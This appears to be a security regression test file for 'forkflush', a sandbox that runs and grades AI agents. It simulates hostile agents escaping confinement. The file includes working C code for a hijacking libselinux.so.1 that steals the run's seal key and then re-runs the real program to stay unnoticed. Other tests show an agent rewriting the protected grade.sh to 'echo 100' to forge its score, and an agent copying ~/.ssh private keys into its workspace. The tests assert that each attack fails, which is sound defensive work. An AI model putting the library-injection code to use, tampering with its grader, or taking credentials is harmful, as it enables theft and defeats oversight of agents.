// A real user's machine whose environment or git config is unusual but legitimate, with a hostile
// command agent (a helper's review, stop 50). Each row failed before its fix, for the reason its
// comment names: the setting, what went wrong ("Today"), and the right behaviour, which now holds.
//
// forkflush runs as a separate process (runCli) with an environment and a HOME of the row's own,
// as the user's shell would start it.
import { execFileSync, spawnSync } from 'node:child_process';
import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { userInfo } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parseConfig } from '../../src/core/config.js';
import { withoutRelativePaths } from '../../src/io/executables.js';
import { agentConfinement } from '../../src/worker/boundary.js';
import {
  attackTemp,
  CAT_GRADER,
  cleanupAttackTemps,
  describeSandboxed,
  homeWith,
  makeAttackRepo,
  newestRunState,
  runCli,
  unique,
  userEnv,
} from '../attacks/helpers.js';

afterAll(cleanupAttackTemps);

/** The seal key of the newest run of a repository, as hex ('' when there is none). */
function sealKeyHex(repoDir: string): string {
  const state = newestRunState(repoDir);
  if (!state) return '';
  const file = join(repoDir, '.forkflush', state.id, 'seal.key');
  return existsSync(file) ? readFileSync(file).toString('hex') : '';
}

const hasGcc = spawnSync('gcc', ['--version']).status === 0;
const isRoot = process.getuid?.() === 0;

if (!hasGcc)
  console.warn(
    'user-environment: no gcc on this machine, so the LD_LIBRARY_PATH run below is skipped (the rows of withoutRelativePaths still run)',
  );

describe('the search paths every program forkflush starts gets (withoutRelativePaths)', () => {
  it.each([
    [{ PATH: 'bin::/usr/bin' }, { PATH: '/usr/bin' }],
    [{ PATH: ':' }, { PATH: '/usr/local/bin:/usr/bin:/bin' }],
    [{ LD_LIBRARY_PATH: ':/usr/local/cuda/lib64' }, { LD_LIBRARY_PATH: '/usr/local/cuda/lib64' }],
    [{ LD_LIBRARY_PATH: 'lib;.' }, {}],
    [{ LD_PRELOAD: './evil.so libjemalloc.so.2 /opt/x.so' }, { LD_PRELOAD: 'libjemalloc.so.2:/opt/x.so' }],
    [{ LD_AUDIT: 'a/b.so' }, {}],
    [{ GCONV_PATH: '.:/usr/lib/gconv', NLSPATH: 'nls/%N' }, { GCONV_PATH: '/usr/lib/gconv' }],
    [
      { HOME: '.', GIT_CONFIG_GLOBAL: 'cfg', XDG_CONFIG_HOME: '/home/u/.config' },
      { XDG_CONFIG_HOME: '/home/u/.config' },
    ],
  ])('%j becomes %j', (env, clean) => {
    expect(withoutRelativePaths(env)).toEqual(clean);
  });

  it('an environment with nothing relative is passed as it is, not copied', () => {
    const env = { PATH: '/usr/bin:/bin', LD_LIBRARY_PATH: '/opt/lib', HOME: '/root' };
    expect(withoutRelativePaths(env)).toBe(env);
  });
});

describeSandboxed('LD_LIBRARY_PATH with an empty entry', () => {
  // The setting: `export LD_LIBRARY_PATH=$LD_LIBRARY_PATH:/usr/local/cuda/lib64`, as countless CUDA
  // install guides write it, with LD_LIBRARY_PATH unset before: the value starts with `:`, an empty
  // entry, which the dynamic loader reads as the current folder. forkflush's PATH is cleaned of such
  // entries (io/executables.ts withoutRelativePaths), but the loader's search path is not, and forkflush
  // starts its own helpers outside the sandbox with their working directory in what the agent wrote:
  // `find` in io/agent-files.ts sweepTree (cwd: the workspace, right after the agent, and the judge's
  // checkout), `/bin/sh -c ... bwrap` in io/process.ts spawnAndWait (cwd: the judge's checkout),
  // `git init` in worker/cleanroom.ts checkoutInto (cwd: the next workspace). The agent does honest
  // work and leaves a `libselinux.so.1` at the top of its workspace (find and bwrap link it): a
  // library whose constructor copies the run's seal key out (../seal.key upwards) and then re-runs
  // the real program without LD_LIBRARY_PATH, so the run goes on as if nothing happened.
  // Today: forkflush's find loads it, as root, outside the sandbox; the loot holds the seal key.
  // Right: the programs forkflush starts get the loader's path variables (LD_LIBRARY_PATH,
  // LD_PRELOAD, ...) with absolute entries only, as PATH (io/executables.ts withoutRelativePaths), or
  // none at all; no library of the agent's is loaded outside the sandbox.
  it.skipIf(!hasGcc)(
    "the agent's libselinux.so.1 in its workspace is not loaded by forkflush's own find or bwrap",
    async () => {
      const lib = attackTemp('lib');
      chmodSync(lib, 0o777);
      const loot = join(lib, 'loot');
      writeFileSync(join(lib, 'fake.c'), fakeLibrary(loot));
      execFileSync('gcc', [
        '-shared',
        '-fPIC',
        '-O2',
        '-o',
        join(lib, 'libselinux.so.1'),
        join(lib, 'fake.c'),
        '-Wl,-soname,libselinux.so.1',
      ]);
      const repo = makeAttackRepo({
        agent: `sh -c 'echo 7 > value.txt; cp ${lib}/libselinux.so.1 .'`,
        grader: CAT_GRADER,
      });
      const home = homeWith();
      const r = await runCli(['run', repo.dir], {
        cwd: repo.dir,
        deadlineMs: 90_000,
        env: userEnv(home, { LD_LIBRARY_PATH: ':/usr/local/cuda/lib64' }),
      });
      const key = sealKeyHex(repo.dir);
      expect(key.length, r.out).toBeGreaterThan(0);
      const taken = existsSync(loot) ? readFileSync(loot, 'utf8') : '';
      expect.soft(taken.includes(key), `the seal key, copied out by the agent's library:\n${taken}`).toBe(false);
      expect(taken, "the agent's library ran outside the sandbox").toBe('');
    },
    120_000,
  );
});

/** A libselinux.so.1 that, loaded from the current folder, writes what it can reach to `loot`, then re-runs the real program. */
function fakeLibrary(loot: string): string {
  return `#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
static void __attribute__((constructor)) evil(void) {
  if (!getenv("LD_LIBRARY_PATH")) return;
  FILE *f = fopen(${JSON.stringify(loot)}, "a");
  if (f) {
    char cwd[4096] = "", exe[4096] = "";
    if (!getcwd(cwd, sizeof cwd)) cwd[0] = 0;
    ssize_t n = readlink("/proc/self/exe", exe, sizeof exe - 1);
    if (n > 0) exe[n] = 0;
    fprintf(f, "uid=%d exe=%s cwd=%s\\n", (int)getuid(), exe, cwd);
    const char *ups[] = {"../seal.key", "../../seal.key", "../../../seal.key", "../../../../seal.key", 0};
    for (int i = 0; ups[i]; i++) {
      FILE *k = fopen(ups[i], "r");
      if (!k) continue;
      unsigned char b[512];
      size_t m = fread(b, 1, sizeof b, k);
      for (size_t j = 0; j < m; j++) fprintf(f, "%02x", b[j]);
      fprintf(f, "\\n");
      fclose(k);
    }
    fclose(f);
  }
  int fd = open("/proc/self/cmdline", O_RDONLY);
  static char buf[65536];
  ssize_t len = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (len <= 0) return;
  buf[len] = 0;
  static char *argv[4096];
  int argc = 0;
  for (ssize_t i = 0; i < len && argc < 4095; i += strlen(buf + i) + 1) argv[argc++] = buf + i;
  argv[argc] = 0;
  unsetenv("LD_LIBRARY_PATH");
  execv("/proc/self/exe", argv);
}
int is_selinux_enabled(void) { return 0; }
int fgetfilecon(int fd, char **c) { return -1; }
int getfilecon(const char *p, char **c) { return -1; }
int lgetfilecon(const char *p, char **c) { return -1; }
int lsetfilecon(const char *p, const char *c) { return -1; }
int setfilecon(const char *p, const char *c) { return -1; }
void freecon(char *c) {}
int security_check_context(const char *c) { return -1; }
int setexeccon(const char *c) { return 0; }
int setfscreatecon(const char *c) { return 0; }
`;
}

describeSandboxed("the user's git config and environment, as forkflush's own git reads them", () => {
  // The setting: GIT_LITERAL_PATHSPECS=1 in the environment forkflush is started from (git's own
  // variable, which tools and editors export for their git calls: every pathspec is then a literal
  // file name, `:(glob)` magic included). forkflush's own git takes the caller's environment but
  // for the repository variables (io/git.ts withoutRepositoryEnv), and names the protected paths
  // as `:(glob)grade.sh` pathspecs (worker/snapshot.ts: the `diff --cached` that finds the
  // protected files the agent changed, and the `reset` that puts them back). Read literally they
  // match no file: the agent's rewritten grade.sh (`echo 100`) is committed and the judge runs it.
  // Today: a forged score of 100 and no protected path changed. Right: forkflush's git ignores
  // the pathspec variables (GIT_LITERAL_PATHSPECS, GIT_GLOB_PATHSPECS, GIT_NOGLOB_PATHSPECS,
  // GIT_ICASE_PATHSPECS), as it does the repository ones; the score is the honest grader's.
  it('GIT_LITERAL_PATHSPECS=1 in the environment: the protected grader the agent rewrote is put back, no forged score', async () => {
    const repo = makeAttackRepo({
      agent: `sh -c 'echo 5 > value.txt; echo "echo 100" > grade.sh'`,
    });
    const home = homeWith();
    const r = await runCli(['run', repo.dir], {
      cwd: repo.dir,
      deadlineMs: 60_000,
      env: userEnv(home, { GIT_LITERAL_PATHSPECS: '1' }),
    });
    const result = newestRunState(repo.dir)?.rounds[0]?.episodes[0]?.result;
    if (!result) {
      // A refusal up front is right too, if it names the variable.
      expect(r.exitCode, r.out).toBe(2);
      expect(r.out).toContain('GIT_LITERAL_PATHSPECS');
      return;
    }
    expect({ score: result.score, protectedChanged: result.protectedChanged }, r.out).toEqual({
      score: null,
      protectedChanged: ['grade.sh'],
    });
  }, 90_000);
});

describeSandboxed("forkflush's umask", () => {
  // The setting: umask 027 in the shell forkflush runs from, as root (CIS benchmarks and many
  // hardened servers set it in /etc/profile or login.defs; 077 likewise). Under root each sandbox
  // runs as a uid of its own (io/accounts.ts), and its workspace's .git borrows the round's objects
  // (local/round-objects.ts), which forkflush makes with its own umask: root-owned, 0750/0640, so
  // the agent's account can read none of them. Today: every git command of the agent in its
  // workspace fails ("unable to open object pack directory: .../round-objects/round-0/pack:
  // Permission denied", "fatal: failed to read object ...: Permission denied"): `git log`,
  // `git diff`, `git status` that every agent CLI leans on, while the run ends green (exit 0) and
  // says nothing. Right: forkflush sets the modes the agent's account needs whatever its umask
  // (the objects view readable by the sandbox's accounts, as the folders handed over are), or
  // refuses up front naming the umask; the README's promise that the agent can read every commit
  // of the repository's history holds.
  it.skipIf(!isRoot)(
    "umask 027: the agent's git in its workspace reads the commits it borrows",
    async () => {
      const repo = makeAttackRepo({
        agent: `sh -c 'git log --oneline -1 > {logs}/git.txt 2>&1; echo $? > {logs}/git.rc; echo 5 > value.txt'`,
        grader: CAT_GRADER,
      });
      const home = homeWith();
      const before = process.umask(0o027);
      let r: Awaited<ReturnType<typeof runCli>>;
      try {
        r = await runCli(['run', repo.dir], { cwd: repo.dir, deadlineMs: 60_000, env: userEnv(home) });
      } finally {
        process.umask(before);
      }
      const read = (f: string) =>
        existsSync(join(repo.logs, f)) ? readFileSync(join(repo.logs, f), 'utf8').trim() : 'none';
      const head = repo.git('log', '--oneline', '-1');
      if (r.exitCode === 2 && /umask/.test(r.out)) return; // a refusal naming the cause is right too
      expect({ rc: read('git.rc'), out: read('git.txt') }, r.out).toEqual({ rc: '0', out: head });
    },
    90_000,
  );

  // A repository cloned under that umask keeps its objects from the sandbox's accounts whatever
  // forkflush's own umask is: the pre-flight says so, and how to mend it, before anything runs.
  it.skipIf(!isRoot)(
    "a repository whose objects the sandbox's accounts cannot read is named before the run",
    async () => {
      const repo = makeAttackRepo({ agent: 'echo 5 > value.txt', grader: CAT_GRADER });
      execFileSync('chmod', ['-R', 'o-rwx', join(repo.dir, '.git', 'objects')]);
      const r = await runCli(['run', repo.dir, '--dry-run'], {
        cwd: repo.dir,
        deadlineMs: 60_000,
        env: userEnv(homeWith()),
      });
      expect(r.out).toContain("the sandbox's accounts cannot read the repository's git objects");
      expect(r.out).toContain(`chmod -R o+rX ${join(repo.dir, '.git', 'objects')}`);
    },
    90_000,
  );
});

describe("HOME that is not the account's home folder, as the sandbox is planned", () => {
  // The same gap on any machine (the run below needs an ordinary account with a home folder): the
  // agent's confinement hid `$HOME` only, so HOME set elsewhere left the account's own home shown.
  it("the account's home folder (its passwd entry) is hidden whatever HOME says", () => {
    const config = parseConfig(
      'grader:\n  command: sh grade.sh\nagent:\n  command: sh agent.sh\nbudget:\n  total: 10\n  unit: tokens\n',
      '.github/autoresearch.yml',
    );
    const run = attackTemp('places');
    const places = {
      workspace: join(run, 'ws'),
      context: join(run, 'ctx'),
      box: join(run, 'box'),
      objects: [],
      private: [],
    };
    for (const home of [attackTemp('home-elsewhere'), '/']) {
      const hidden = agentConfinement(places, config, { PATH: process.env.PATH, HOME: home }).hidden;
      expect(hidden, `HOME=${home}`).toContain(userInfo().homedir);
    }
  });
});

describeSandboxed("HOME that is not the account's home folder", () => {
  // The setting: an ordinary user (here cloudsdk, uid 1000, home /home/cloudsdk) starts forkflush
  // with HOME pointing elsewhere: a script that gives git and the CLIs a clean HOME of their own
  // (`HOME=$(mktemp -d) forkflush run`), `sudo -u` keeping the caller's HOME, a container whose
  // HOME is `/`. The sandbox hides `$HOME` only (worker/boundary.ts hiddenPlaces: `env.HOME ||
  // homedir()`), so the account's real home folder, where ssh, gpg and most tools keep their keys
  // whatever HOME says (ssh reads the passwd entry), is visible to the agent, which runs as the
  // same user in its user namespace. The agent copies ~/.ssh's private key into its workspace:
  // it is committed on forkflush's branches (and pushed by the user with the result).
  // Right: the sandbox hides the account's home folder (os.userInfo().homedir, the passwd entry)
  // as well as $HOME.
  it.skipIf(!isRoot || !existsSync('/home/cloudsdk'))(
    "an ordinary user's run with HOME elsewhere: the agent cannot read the account's ~/.ssh",
    async () => {
      const secret = unique('ssh-private-key');
      const ssh = '/home/cloudsdk/.ssh';
      const hadSsh = existsSync(ssh);
      const keyFile = join(ssh, `id_review_${process.pid}`);
      mkdirSync(ssh, { recursive: true, mode: 0o700 });
      chownSync(ssh, 1000, 1000);
      writeFileSync(keyFile, `${secret}\n`, { mode: 0o600 });
      chownSync(keyFile, 1000, 1000);
      try {
        const root = attackTemp('home-elsewhere');
        const repo = makeAttackRepo({
          agent: `sh -c 'cat ${keyFile} > stolen.txt 2>&1; echo 5 > value.txt'`,
          grader: CAT_GRADER,
          dir: root,
        });
        const home = join(root, 'home');
        mkdirSync(home);
        writeFileSync(join(home, '.gitconfig'), '[user]\n\tname = Night User\n\temail = user@example.invalid\n');
        execFileSync('chown', ['-R', '1000:1000', root]);
        const r = await runCli(['run', repo.dir], { cwd: root, deadlineMs: 60_000, env: userEnv(home), uid: 1000 });
        const result = newestRunState(repo.dir)?.rounds[0]?.episodes[0]?.result;
        expect(result?.sandbox ?? '', r.out).toMatch(/^bubblewrap/);
        const stolen = result
          ? spawnSync('git', ['-c', 'safe.directory=*', '-C', repo.dir, 'show', `${result.commit}:stolen.txt`], {
              encoding: 'utf8',
            }).stdout
          : '';
        expect(stolen.includes(secret), `what the agent committed: ${stolen}`).toBe(false);
      } finally {
        rmSync(keyFile, { force: true });
        if (!hadSsh) rmSync(ssh, { recursive: true, force: true });
      }
    },
    90_000,
  );
});
